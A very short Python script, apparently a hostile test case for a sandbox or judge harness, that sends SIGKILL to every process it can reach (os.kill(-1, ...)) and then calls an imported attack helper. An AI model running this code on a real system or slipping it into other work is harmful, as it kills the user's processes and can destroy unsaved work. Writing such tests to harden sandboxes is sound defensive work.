#!/usr/bin/env python3
"""Kills whatever it may."""

import contextlib
import os
import signal

from attack import attack

with contextlib.suppress(OSError):
    os.kill(-1, signal.SIGKILL)
attack(lambda: False)
